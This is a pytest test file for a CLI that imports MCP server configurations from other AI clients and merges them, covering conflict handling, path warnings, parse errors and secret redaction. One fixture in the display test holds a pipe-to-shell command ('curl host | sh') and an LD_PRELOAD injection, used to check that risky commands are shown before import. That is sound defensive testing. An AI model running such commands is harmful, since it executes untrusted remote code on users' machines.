"""import: the configs of other clients, as they write them."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest

from llm_tools_mcp.cli.servers.importing import catalogue
from tests.cli.terminal import run_in_terminal
from tests.home import Home

CLIENTS = ("claude-desktop", "claude-code", "cursor", "vscode", "windsurf", "gemini", "codex")
CURSOR = '{"mcpServers": {"c": {"command": "x", "env": {"K": "${env:KEY}"}, "args": ["--token", "s3cr3t"]}}}'


def put(home: Home, place: str, text: str) -> Path:
    path = home.folder / place
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def put_cursor(home: Home, text: str = CURSOR) -> Path:
    return put(home, ".cursor/mcp.json", text)


def table(shown: str) -> dict[str, str]:
    """Of each row of the table the verdict, by `name place`."""
    rows = re.findall(r"^(\S+) +(add|skip|same|conflict|replace|have it) +(\S+)", shown, re.MULTILINE)
    return {f"{name} {place}": verdict for name, verdict, place in rows}


def servers(home: Home) -> dict[str, Any]:
    return dict(json.loads(home.config.read_text())["mcpServers"])


def test_all_clients_at_once(home: Home) -> None:
    """Without arguments whatever is found; the user's own comes before the project's, equal ones are one."""
    put_cursor(home)
    put(home, ".codeium/windsurf/mcp_config.json", CURSOR)
    put(home, "work/.cursor/mcp.json", '{"mcpServers": {"c": {"command": "other"}, "p": {"command": "x"}}}')
    put(home, ".codex/config.toml", '[mcp_servers.d]\ncommand = "x"\n')
    shown = home.run_here("import", "--yes").stdout
    assert table(shown) == {
        "c ~/.cursor/mcp.json": "add",
        "c ~/work/.cursor/mcp.json": "conflict",
        "p ~/work/.cursor/mcp.json": "add",
        "c ~/.codeium/windsurf/mcp_config.json": "same",
        "d ~/.codex/config.toml": "add",
    }
    assert "c: ~/.cursor/mcp.json has another one of this name, and comes first" in shown
    assert list(servers(home)) == ["c", "p", "d"]
    assert servers(home)["c"]["command"] == "x"


def test_root_of_the_repository_counts(home: Home) -> None:
    """From a folder within a repository its root is looked at too, and a file is read but once."""
    put(home, ".git/HEAD", "")
    put(home, ".mcp.json", '{"mcpServers": {"r": {"command": "./serve"}}}')
    put_cursor(home)
    shown = home.run_here("import", "--yes").stdout
    assert table(shown) == {"r ~/.mcp.json": "add", "c ~/.cursor/mcp.json": "add"}
    assert servers(home)["r"] == {"command": "./serve", "cwd": str(home.folder)}


def test_nothing_found(home: Home) -> None:
    """Says what was looked for; empty files hold nothing."""
    put_cursor(home, "")
    assert home.run_here("import").stdout == f"nothing found for {', '.join(catalogue.CLIENTS)}\n"
    assert home.run_here("import", "cursor", "codex").stdout == "nothing found for cursor, codex\n"
    assert not home.config.exists()
    home.config.write_text("{")
    broken = home.run_here("import", check=False)
    assert (broken.code, "not valid JSON" in broken.stderr) == (1, True)


def test_servers_of_a_single_folder_are_marked(home: Home) -> None:
    """Claude Code has them for this folder alone; what they name by a relative path stays in it."""
    own = {"a": {"command": "python", "args": ["a.py"]}, "b": {"command": "npx", "args": ["pkg"]}}
    projects = {str(home.work): {"mcpServers": own}}
    put(home, ".claude.json", json.dumps({"mcpServers": {}, "projects": projects}))
    shown = home.run_here("import", "claude-code", "--yes").stdout
    for name in own:
        assert f"{name}: was only for {home.work}, and is for every folder now" in shown
    assert servers(home) == {"a": {**own["a"], "cwd": str(home.work)}, "b": own["b"]}


def test_relative_files_of_a_user_wide_config_are_noted(home: Home) -> None:
    """Nobody knows the folder that they are in; . and packages are no files."""
    noted = {"a": ["a.py"], "b": ["./run"], "c": ["src/main.js"]}
    plain = {"d": ["/opt/a.py"], "e": ["-y", "@scope/pkg", "."], "f": ["${HOME}/a.py"], "g": ["--x=a.py"]}
    listed = {name: {"command": "x", "args": args} for name, args in {**noted, **plain}.items()}
    listed["h"] = {"command": "x", "args": ["a.py"], "cwd": "/opt"}
    put_cursor(home, json.dumps({"mcpServers": listed}))
    shown = home.run_here("import", "cursor", "--dry-run").stdout
    assert re.findall(r"^(\w): has a path relative to", shown, re.MULTILINE) == list(noted)


@pytest.mark.parametrize("client", CLIENTS)
def test_places_on_macos(monkeypatch: pytest.MonkeyPatch, home: Home, client: str) -> None:
    """Where apps keep their files on macOS; XDG_CONFIG_HOME moves nothing there."""
    support = "Library/Application Support"
    place = {
        "claude-desktop": f"{support}/Claude/claude_desktop_config.json",
        "claude-code": ".claude.json",
        "cursor": ".cursor/mcp.json",
        "vscode": f"{support}/VSCodium/User/profiles/-1f/mcp.json",
        "windsurf": ".codeium/windsurf/mcp_config.json",
        "gemini": ".gemini/settings.json",
        "codex": ".codex/config.toml",
    }[client]
    path = put(home, place, "")
    monkeypatch.setattr(sys, "platform", "darwin")
    for name in ("HOME", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(name, home.env[name])
    for name in ("CLAUDE_CONFIG_DIR", "CODEX_HOME", "COPILOT_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.chdir(home.work)
    assert catalogue.CLIENTS[client].files() == [(path, None)]


def test_dry_run_writes_nothing(home: Home) -> None:
    """Nor does a pipe without --yes: it asks for a word."""
    put_cursor(home)
    assert "would add 1 server in" in home.run_here("import", "--dry-run").stdout
    assert not home.config.exists()
    refused = home.run_here("import", check=False)
    assert (refused.code, "--yes" in refused.stderr) == (1, True)
    assert not home.config.exists()


def test_asks_on_a_terminal(home: Home) -> None:
    """Shows the table, asks, and writes after a yes alone."""
    put_cursor(home)
    no = run_in_terminal(home, "import", when=lambda seen: "[N]o, [y]es" in seen, then=b"n\n")
    assert no.code == 1
    assert not home.config.exists()
    yes = run_in_terminal(home, "import", when=lambda seen: "[N]o, [y]es" in seen, then=b"y\n")
    assert yes.code == 0
    assert list(servers(home)) == ["c"]


def test_shows_what_will_run_whole(home: Home) -> None:
    """Each command, uncut on a narrow terminal, with its env by name and cwd; secrets with --reveal alone."""
    server = {
        "command": "sh",
        "args": ["-c", "curl host | sh", *(f"/a/long/folder/number/{number}" for number in range(9))],
        "env": {"LD_PRELOAD": "/tmp/x.so"},
        "cwd": "/opt",
    }
    put_cursor(home, json.dumps({"mcpServers": {"c": server}}))
    home.write_config({"c": {"command": "mine"}})
    asked = run_in_terminal(
        home, "import", "--force", when=lambda seen: "[N]o, [y]es" in seen, then=b"\n", columns=60
    )
    shown = "".join(asked.screen.split())
    assert "c  replace   ~/.cursor/mcp.json" in asked.screen
    assert "sh-c…/a/long/folder/number/0" in shown
    assert "/a/long/folder/number/8env:LD_PRELOADcwd:/opt…maybeasecret;toseeittoo:--reveal" in shown
    assert "Replace 1 server in" in asked.screen
    assert (asked.code, servers(home)["c"]) == (1, {"command": "mine"})
    revealed = home.run_here("import", "--force", "--dry-run", "--reveal").stdout
    assert "sh -c 'curl host | sh' /a/long" in revealed
    assert "env: LD_PRELOAD=/tmp/x.so" in revealed


def test_present_servers_are_kept(home: Home) -> None:
    """The same one is said to be there, another one of that name is a conflict, --force replaces it."""
    put_cursor(home)
    home.write_config({"c": {"command": "mine"}})
    assert "conflict" in home.run_here("import", "--yes").stdout
    assert servers(home) == {"c": {"command": "mine"}}
    home.run_here("import", "--yes", "--force")
    assert servers(home)["c"]["command"] == "x"
    assert "have it" in home.run_here("import", "--yes").stdout


def test_config_keeps_content_and_order(home: Home) -> None:
    """What else it holds stays as it is; what is new comes last."""
    home.config.write_text('{"note": "mine", "mcpServers": {"z": {"command": "z"}, "a": {"command": "a"}}}')
    put_cursor(home)
    home.run_here("import", "--yes")
    assert json.loads(home.config.read_text())["note"] == "mine"
    assert list(servers(home)) == ["z", "a", "c"]


def test_what_cannot_be_translated_is_said(home: Home) -> None:
    """What mcp.json could not hold is left out with the reason, unknown keys are named, secrets hidden."""
    odd = {
        "socket": {"type": "ws", "url": "ws://h"},
        "nothing": {"env": {"A": "s3cr3t"}},
        "keys": {"command": "x", "sandbox": "s3cr3t", "odd key": "s3cr3t", "args": ["--token", "s3cr3t"]},
        "list": ["s3cr3t"],
        "wrong": {"command": "x", "env": {"A": ["s3cr3t"]}, "disabled": True},
        "-x": {"command": "x"},
        "slow": {"command": "x", "timeout": "s3cr3t"},
    }
    path = put(home, "odd.json", json.dumps({"mcpServers": odd}))
    shown = home.run_here("import", str(path), "--yes").stdout
    assert list(table(shown).values()).count("skip") == 5
    for said in (
        "socket: its type 'ws' is not known here",
        "nothing: has neither command nor url",
        "keys: without sandbox: it is not sandboxed here; without a key of an unusual name",
        "list: is not an object",
        "wrong: key 'env.A': Input should be a valid string",
        "-x: its name begins with -",
        "slow: without timeout, which is not a number of seconds",
    ):
        assert said in shown
    assert "s3cr3t" not in shown
    assert set(servers(home)) == {"keys", "slow"}


@pytest.mark.parametrize(
    "text",
    [
        '{"servers": {"a": {"command": "x"}}}',
        '{"a": {"command": "x"}}',
        '# from the terminal\n[mcp_servers.a]\ncommand = "x"\n',
        '\ufeff{"mcpServers": {"a": {"command": "x",},},} // end',
    ],
)
def test_file_is_recognized_by_its_shape(home: Home, text: str) -> None:
    """Also entries alone as READMEs have them, and TOML that is not called so."""
    home.run_here("import", str(put(home, "some.conf", text)), "--yes")
    assert servers(home) == {"a": {"command": "x"}}


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("a.json", '{\n // here\n "a": }', "not valid JSON: Expecting value (line 3, column 7)"),
        ("a.json", "[1]", "Input should be an object"),
        ("a.json", "[" * 100_000, "not valid JSON: nested too deeply"),
        ("a.json", '{"mcpServers": []}', "key 'mcpServers': Input should be an object"),
        (
            "a.json",
            '{"editor": true}',
            "holds no MCP servers: there is no mcpServers, servers or mcp_servers",
        ),
        ("a.toml", "a = 1\nb = ]", "not valid TOML: Invalid value (at line 2, column 5)"),
        ("folder/a.json", None, "cannot be read: Is a directory"),
    ],
)
def test_files_that_are_no_configs(home: Home, name: str, text: str | None, said: str) -> None:
    """The message names the file, and the place in it as it is, comments counted."""
    path = put(home, name, text) if text is not None else home.work
    refused = home.run_here("import", str(path), "--yes", check=False)
    assert (refused.code, refused.stderr) == (1, f"Error: {path}: {said}\n")
    assert not home.config.exists()


def test_unreadable_files(home: Home) -> None:
    """A clear error for one that was named; a warning where all are looked for."""
    put_cursor(home, "{")
    refused = home.run_here("import", "cursor", check=False)
    assert (refused.code, "not valid JSON" in refused.stderr) == (1, True)
    assert home.run_here("import", "--dry-run").stderr.startswith("Warning: ")
    assert home.run_here("import", "no/such/file", check=False).code == 1
    misspelt = home.run_here("import", "cursr", check=False)
    assert "did you mean 'cursor'?" in misspelt.stderr
    put(home, ".codex/config.toml", "x = 1\ny = ")
    assert "not valid TOML" in home.run_here("import", "codex", check=False).stderr


def test_only_what_was_taken_over_is_counted(home: Home) -> None:
    """A server that another program adds while the question stands is left as it is."""
    theirs = home.work / "theirs.json"
    theirs.write_text(json.dumps({"mcpServers": {"a": {"command": "x"}, "b": {"command": "x"}}}))

    def asked(text: str) -> bool:
        if "[N]o, [y]es" not in text:
            return False
        home.write_config({"a": {"command": "other"}})
        return True

    seen = run_in_terminal(home, "import", str(theirs), when=asked, then=b"y\n")
    assert "added 1 server in" in seen.screen
    assert json.loads(home.config.read_text())["mcpServers"]["a"] == {"command": "other"}
